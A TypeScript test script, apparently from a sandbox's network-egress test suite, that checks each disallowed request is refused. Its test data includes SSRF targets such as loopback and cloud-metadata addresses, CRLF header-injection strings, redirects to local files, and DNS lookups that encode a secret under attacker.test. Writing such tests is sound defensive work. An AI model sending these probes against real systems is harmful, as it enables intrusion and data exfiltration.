// Reaches for what its one net token does not name, by requests made by hand and by the clients a program has; driven by
// drivers/egress.ts, which owns every name and listener. Arguments: the allowed port, the forbidden one, and which half: `raw` reads the
// door itself, `clients` leaves it to the SDK.

import { request as nodeRequest } from "node:http";
import { lookup } from "node:dns/promises";
import { Case } from "./_case.ts";
import { type Answer, ask, shown } from "./_door.ts";

const c = new Case("C34");
const [port, closed] = [Number(process.argv[2]), Number(process.argv[3])];
let stream = 0;
const open = (host: unknown, at: unknown = port, more: Record<string, unknown> = {}): Answer => {
  stream += 1;
  const answer = ask("netOpen", { stream, scheme: "http", host, port: at, method: "GET", path: "/", headers: [], ...more });
  // A request without a body is answered at once, with the head of what came back.
  return answer.kind === "ok" && (answer.value as { status?: number }).status === undefined ? { kind: "silent" } : answer;
};
const denied = (what: string, answer: Answer, reasons = ["EGRESS_DENIED", "EGRESS_REQUEST", "REQUEST_INVALID", "UNSUPPORTED"]): void =>
  c.held(what, answer.kind === "error" && reasons.includes(answer.reason), shown(answer));

if (process.argv[4] === "raw") {
  const first = open("allowed.test");
  c.able("reach the host its token names", first.kind === "ok");
  if (first.kind !== "ok") c.done(shown(first));

  // C34: other hosts, other ports, other spellings of the same host.
  for (const host of ["other.test", "sub.allowed.test", "allowed.test.other.test", "xallowed.test", "allowed.tes", "ALLOWED.TEST", "allowed.test.", ".allowed.test", "allowed.test\0", "allowed.test/", "allowed.test#", "allowed.test@other.test", "other.test:80", "аllowed.test", "allowed%2etest", "", " ", "localhost", null, 7, ["allowed.test"]])
    denied(`host ${JSON.stringify(host)}`, open(host));
  for (const at of [closed, port + 1, 0, -1, 65_536, 443, 1.5, String(port), null]) denied(`port ${at}`, open("allowed.test", at));
  for (const [what, more] of [["https to the same port", { scheme: "HTTPS" }], ["file", { scheme: "file" }], ["CONNECT", { method: "CONNECT" }], ["TRACE", { method: "TRACE" }], ["a method with a line end", { method: "GET / HTTP/1.1\r\nX: y\r\n" }],
    ["a whole URL as path", { path: "http://other.test/" }], ["a path with a line end", { path: "/ HTTP/1.1\r\nHost: other.test\r\n\r\n" }], ["a Host of its own", { headers: [["host", "other.test"]] }], ["a header with a line end", { headers: [["a", "b\r\nHost: other.test"]] }],
    ["a proxy header", { headers: [["proxy-authorization", "x"]] }], ["an upgrade", { headers: [["connection", "upgrade"], ["upgrade", "websocket"]] }], ["two lengths", { headers: [["content-length", "5"], ["content-length", "6"]] }], ["a chunked body of its own", { headers: [["transfer-encoding", "chunked"]] }]] as const) {
    const answer = open("allowed.test", port, more);
    // What is dropped or answered as usual is as good as refused: the listener's owner looks at what arrived.
    c.held(what, answer.kind !== "silent" && answer.kind !== "closed", shown(answer));
  }

  // C36: addresses as names, and names that stand for addresses nobody may reach; the driver grants tokens for the names.
  for (const host of ["127.0.0.1", "::1", "[::1]", "0.0.0.0", "169.254.169.254", "10.0.0.1", "::ffff:127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1"]) denied(`address ${host}`, open(host, closed));
  for (const name of ["loop", "loop6", "meta", "private", "mapped", "cgnat", "zero", "ula", "nat64", "linklocal", "broadcast", "multicast"]) denied(`a name that is ${name}`, open(`${name}.test`, closed), ["EGRESS_DENIED"]);

  // C33: a name nobody granted is not looked up.
  for (const name of ["c2vjcmv0.attacker.test", `${"a".repeat(60)}.${"b".repeat(60)}.attacker.test`]) denied(`lookup of ${name.slice(0, 20)}`, open(name, 443, { scheme: "https" }), ["EGRESS_DENIED"]);
} else {
  await c.rejects("dns.lookup", () => lookup("c2VjcmV0.attacker.test"));
  await c.rejects("Bun.dns", () => Bun.dns.lookup("c2VjcmV0.attacker.test"));

  // C35: redirects, followed by whoever follows them.
  const text = async (url: string, init?: RequestInit): Promise<string> => {
    try {
      const response = await fetch(url, init);
      return `${response.status} ${(await response.text()).slice(0, 40)}`;
    } catch (error) {
      return `refused ${(error as { code?: string }).code ?? ""} ${String(error).slice(0, 120)}`;
    }
  };
  const plain = await text(`http://allowed.test:${port}/`);
  c.able(`fetch the host its token names: ${plain}`, plain.startsWith("200 allowed"));
  const followed = await text(`http://allowed.test:${port}/redirect?to=${encodeURIComponent(`http://allowed.test:${port}/`)}`);
  c.able(`follow a redirect to the same host: ${followed}`, followed.startsWith("200 allowed"));
  for (const to of [`http://127.0.0.1:${closed}/`, `http://[::1]:${closed}/`, `http://loop.test:${closed}/`, "http://meta.test/latest/meta-data", `http://other.test:${closed}/`, `http://allowed.test:${closed}/`, `//other.test:${closed}/`, `http://allowed.test@other.test:${closed}/`, "file:///etc/hosts", "gopher://other.test/", `\\\\other.test:${closed}\\`])
    c.held(`redirect to ${to}`, (await text(`http://allowed.test:${port}/redirect?to=${encodeURIComponent(to)}`)).startsWith("refused"), await text(`http://allowed.test:${port}/redirect?to=${encodeURIComponent(to)}`));
  c.held("an endless redirect ends", (await text(`http://allowed.test:${port}/again`)).startsWith("refused"));
  c.held("fetch through a proxy of its own", (await text(`http://other.test:${closed}/`, { proxy: `http://allowed.test:${port}/` } as RequestInit)).startsWith("refused"));
  c.held("fetch over a Unix socket of the host", (await text("http://localhost/", { unix: "/run/aria/api.sock" } as RequestInit)).startsWith("refused"));
  const node = (host: string, at: number): Promise<string> =>
    new Promise((resolve) => {
      const call = nodeRequest({ host, port: at, path: "/", timeout: 5_000 }, (response) => resolve(String(response.statusCode)));
      call.on("error", (error) => resolve(`refused ${error.message}`));
      call.on("timeout", () => { call.destroy(); resolve("refused timeout"); });
      call.end();
    });
  c.held("node:http to another host", (await node("other.test", closed)).startsWith("refused"));
  c.held("node:http to loopback", (await node("127.0.0.1", closed)).startsWith("refused"));
}
c.done();
